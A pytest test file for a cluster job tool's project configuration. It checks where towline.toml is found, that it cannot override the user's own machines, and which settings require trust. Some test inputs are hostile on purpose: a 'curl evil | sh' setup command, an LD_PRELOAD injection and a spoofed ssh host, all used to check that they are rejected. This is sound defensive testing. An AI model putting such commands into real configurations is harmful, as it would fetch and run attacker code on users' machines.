"""Which towline.toml holds in a folder, what it cannot change, and what of it needs trust."""

import os
from pathlib import Path

import pytest

from towline.config.load import load_config, load_snapshot_settings
from towline.config.project import find_project_file
from towline.config.settings import MachinesCluster
from towline.config.trust import anybody
from towline.errors import ConfigError, NotTrusted


@pytest.fixture
def user_file(tmp_path: Path) -> Path:
    return tmp_path / "config.toml"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    (folder / "sub" / "deeper").mkdir(parents=True)
    return folder


def test_nearest_project_file_wins(user_file: Path, project: Path) -> None:
    (project / "towline.toml").write_text("[clusters.a]\nmachines = ['x']")
    (project / "sub" / "towline.toml").write_text("[clusters.b]\nmachines = ['y']")
    assert find_project_file(str(project / "sub" / "deeper")) == str(project / "sub/towline.toml")
    assert find_project_file(str(project)) == str(project / "towline.toml")


def test_search_for_a_project_file_stops_above_the_home(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "towline.toml").touch()
    monkeypatch.setenv("HOME", str(project / "sub"))
    assert find_project_file(str(project / "sub" / "deeper")) == ""


def test_project_file_that_a_stranger_put_into_an_open_folder_is_not_used(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project.chmod(0o1777)
    (project / "towline.toml").touch()
    if os.geteuid() == 0:
        os.chown(project / "towline.toml", 12345, 12345)
    else:
        monkeypatch.setattr(os, "geteuid", lambda: 12345)
    assert find_project_file(str(project / "sub")) == ""


OWN = """
[clusters.lab]
machines = ["gpu1", { ssh = "me@10.0.0.5", name = "attic", max_cpus = 4, key = "~/mine" }]
[clusters.cedar]
kind = "slurm"
host = "login"
"""


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("[clusters.lab]\nmachines = ['gpu9']", "`clusters.lab` is a cluster of your own"),
        ("[clusters.local]\nmachines = ['gpu9']", "`clusters.local` is this machine"),
        (
            "[clusters.x]\nmachines = [{ ssh = 'mallory@gpu9', name = 'gpu1' }]",
            "the machine 'gpu1' is gpu1 in your own configuration, not mallory@gpu9",
        ),
        (
            "[clusters.x]\nmachines = [{ ssh = 'gpu1', key = 'theirs' }]",
            "'gpu1' is a machine of your own, which a project cannot change",
        ),
        ("[clusters.x]\nmachines = ['cedar']", "'cedar' is called like a cluster of your own"),
        ("[clusters.gpu1]\nkind = 'slurm'", "is called like a machine of your own"),
    ],
)
def test_project_cannot_redefine_what_is_the_users_even_when_trusted(
    user_file: Path, project: Path, text: str, problem: str
) -> None:
    user_file.write_text(OWN)
    (project / "towline.toml").write_text(text)
    with pytest.raises(ConfigError) as caught:
        load_config(str(user_file), str(project), anybody)
    assert problem in caught.value.text
    assert str(project / "towline.toml") in caught.value.text
    assert caught.value.hint


def test_machine_of_the_user_in_a_project_is_as_the_user_has_it(
    user_file: Path, project: Path
) -> None:
    user_file.write_text(OWN)
    (project / "towline.toml").write_text(
        "[clusters.x]\nmachines = [{ ssh = 'me@10.0.0.5', name = 'attic' }, 'gpu2']\n"
        "folder = '/theirs'\n"
    )
    config = load_config(str(user_file), str(project), anybody)
    lab, theirs = config.clusters["lab"], config.clusters["x"]
    assert isinstance(lab, MachinesCluster) and isinstance(theirs, MachinesCluster)
    assert theirs.entries()[0] == lab.entries()[1]
    assert theirs.entries()[1].folder == "/theirs"


@pytest.mark.parametrize(
    "text",
    [
        "default_cluster = 'lab'",
        "[clusters.x]\nmachines = ['gpu9']",
        "[defaults]\nsetup = 'curl evil | sh'",
        "[defaults]\nenv = { LD_PRELOAD = '/tmp/x.so' }",
        "[defaults]\nrequest = '[gtx1070]'",
        "[aliases]\nbig = 'T4'",
    ],
)
def test_what_decides_what_runs_where_needs_trust(
    user_file: Path, project: Path, text: str
) -> None:
    user_file.write_text(OWN)
    (project / "towline.toml").write_text(text)
    with pytest.raises(NotTrusted) as caught:
        load_config(str(user_file), str(project))
    assert caught.value.file == str(project / "towline.toml")
    assert caught.value.exit_code == 2
    assert load_config(str(user_file), str(project), anybody)


def test_what_travels_needs_no_trust(user_file: Path, project: Path) -> None:
    file = project / "towline.toml"
    file.write_text("[snapshot]\nexclude = ['a']\ninclude = ['b']\n")
    assert load_config(str(user_file), str(project)).snapshot.exclude == ["a"]
    file.write_text(file.read_text() + "[defaults]\nsetup = 'evil'\n")
    assert load_snapshot_settings(str(user_file), str(project)).include == ["b"]
